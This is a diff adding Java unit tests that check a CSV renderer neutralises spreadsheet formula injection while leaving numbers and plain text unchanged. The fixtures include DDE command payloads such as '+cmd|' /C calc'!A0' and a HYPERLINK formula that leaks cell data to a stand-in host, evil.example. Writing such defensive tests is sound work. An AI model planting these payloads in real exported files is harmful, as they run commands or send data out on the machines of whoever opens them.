@@ -31,6 +31,43 @@ class CsvRenderingTest {
     }
 
     @Test
+    void formulasInTextCellsAreMadeInertButNumbersStayNumbers() {
+        // Issue 9, item 5: a counselor "+cmd|' /C calc'!A0" or a program "=HYPERLINK(…)" came out as-is.
+        Map<String, Object> row = new LinkedHashMap<>();
+        row.put("counselor_id", "+cmd|' /C calc'!A0");
+        row.put("program_id", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")");
+        row.put("program_ids", List.of("north-op", "@SUM(1+1)*cmd|' /C calc'!A0"));
+        row.put("discharges", new TreeMap<>(Map.of("-2+3", 4)));
+        row.put("detail", "\t=1+1");
+        row.put("spaced", "  =1+1");
+        row.put("score", -3);
+        row.put("rate", -0.25);
+        row.put("text_number", "-12.5");
+        row.put("dash", "-");
+
+        String csv = CsvRendering.render(List.of(), List.of(row));
+
+        assertThat(csv.split("\n")[1]).isEqualTo(
+                "'+cmd|' /C calc'!A0,"
+                        + "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\","
+                        + "north-op;'@SUM(1+1)*cmd|' /C calc'!A0,"
+                        + "'-2+3=4,"
+                        + "'\t=1+1,"
+                        + "'  =1+1,"
+                        + "-3,-0.25,-12.5,'-");
+    }
+
+    @Test
+    void inertTextIsLeftAlone() {
+        for (String plain : new String[] {"north-op", "co-1", "2026-01-05", "12", "-7", "1e-3", "a=b", "x+y", ""}) {
+            assertThat(CsvRendering.neutralised(plain)).as(plain).isEqualTo(plain);
+        }
+        for (String formula : new String[] {"=1", "+1+1", "-1+1", "@A1", "\r=1", "\uff1dcmd"}) {
+            assertThat(CsvRendering.neutralised(formula)).as(formula).isEqualTo("'" + formula);
+        }
+    }
+
+    @Test
     void anEmptyAnswerIsStillAHeaderOfTheRecordsFields() {
         String csv = CsvRendering.render(CsvRendering.columns(AllianceOutcome.getClassSchema(), "suppressed"),
                 new ArrayList<>());
